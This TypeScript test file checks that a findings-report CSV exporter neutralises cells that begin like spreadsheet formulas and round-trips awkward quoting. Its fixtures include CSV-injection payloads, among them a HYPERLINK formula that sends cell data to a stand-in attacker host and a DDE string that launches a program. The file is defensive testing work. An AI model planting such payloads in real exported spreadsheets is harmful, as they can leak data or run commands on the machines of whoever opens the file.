import { CSV_COLUMNS, renderFindingsCsv } from '../../reports/csv';
import { loadProfile } from '../../policy/load';
import { parseCsv } from '../support/csv-parse';
import { HOSTILE, makeDocument, makeFinding } from '../support/findings-factory';

// Cells a spreadsheet would run as a formula or DDE call, and cells that stress the quoting.
const FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '=cmd|\' /C calc\'!A0', '-'];
const AWKWARD = ['plain, with "quotes"\r\nand a new line', 'ends with a quote"', '"', ',', 'a\nb', '', ...HOSTILE];

describe('findings.csv', () => {
  const cells = [...FORMULAS, ...AWKWARD];
  const doc = makeDocument({
    findings: cells.map((text, i) => makeFinding(i, {
      subject: { name: text, userPrincipalName: text },
      summary: text,
      remediation: text,
      clauses: ['mail.forwarding', 'identity.mfa', 'mail.forwarding'],
    })),
  });
  const csv = renderFindingsCsv(doc, { profile: loadProfile('model-council') });
  const rows = parseCsv(csv);
  const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);

  it('opens in Excel as UTF-8: a byte-order mark, a header row, CRLF after every row', () => {
    expect(csv.startsWith('\uFEFFid,checkId,severity,state,subjectType,subjectName,userPrincipalName,clauses,summary,remediation,firstSeen,lastSeen\r\n')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    // parseCsv is strict RFC 4180: it throws on a bare CR or LF between rows, so parsing proves the line ends.
    expect(rows).toHaveLength(cells.length + 1);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
  });

  it('neutralises every cell that starts like a formula (= + - @ tab CR LF) with a leading apostrophe', () => {
    for (const row of rows.slice(1)) {
      for (const c of [col('subjectName'), col('userPrincipalName'), col('summary'), col('remediation')]) {
        expect(row[c]).not.toMatch(/^[=+\-@\t\r\n]/);
      }
    }
    const summaries = rows.slice(1).map((r) => r[col('summary')]);
    expect(summaries[0]).toBe(`'${FORMULAS[0]}`);
    expect(summaries[4]).toBe("'\t=1+1");
    expect(summaries[5]).toBe("'\r=1+1");
  });

  it('round-trips hostile rows: with the apostrophe removed, every cell reads back exactly as written', () => {
    rows.slice(1).forEach((row, i) => {
      const original = cells[i];
      const unneutralised = (v: string) => (/^'[=+\-@\t\r\n]/.test(v) ? v.slice(1) : v);
      expect(unneutralised(row[col('subjectName')])).toBe(original);
      expect(unneutralised(row[col('userPrincipalName')])).toBe(original);
      expect(unneutralised(row[col('summary')])).toBe(original);
      expect(row[col('id')]).toBe(`finding-${i}`);
      expect(row[col('severity')]).toBe('high');
      expect(row[col('state')]).toBe('new');
      expect(row[col('firstSeen')]).toBe('2026-11-25T02:14:00.000Z');
    });
  });

  it('gives clauses as the policy\'s own numbers, once each, or the keys when no profile is given', () => {
    expect(rows[1][col('clauses')]).toBe('6.1.5; 4.1.1');
    const wivelsfield = parseCsv(renderFindingsCsv(doc, { profile: loadProfile('wivelsfield-2023') }));
    expect(wivelsfield[1][col('clauses')]).toBe('15; 6');
    const renumbered = parseCsv(renderFindingsCsv(doc, { profile: loadProfile('wivelsfield-2023'), clauseOverrides: { 'mail.forwarding': '15a' } }));
    expect(renumbered[1][col('clauses')]).toBe('15a; 6');
    expect(parseCsv(renderFindingsCsv(doc))[1][col('clauses')]).toBe('mail.forwarding; identity.mfa');
  });

  it('no findings: just the header row', () => {
    expect(parseCsv(renderFindingsCsv(makeDocument()))).toEqual([[...CSV_COLUMNS]]);
  });
});

describe('the test CSV reader is strict', () => {
  it('refuses what RFC 4180 does not allow, so a sloppy CSV cannot pass a round-trip by luck', () => {
    expect(() => parseCsv('a,b\nc,d\r\n')).toThrow(/bare LF/);
    expect(() => parseCsv('a,b"c\r\n')).toThrow(/quote inside an unquoted cell/);
    expect(() => parseCsv('"a,b\r\n')).toThrow(/never closed/);
    expect(parseCsv('"a ""b""",c\r\n"x\r\ny",\r\n')).toEqual([['a "b"', 'c'], ['x\r\ny', '']]);
  });
});
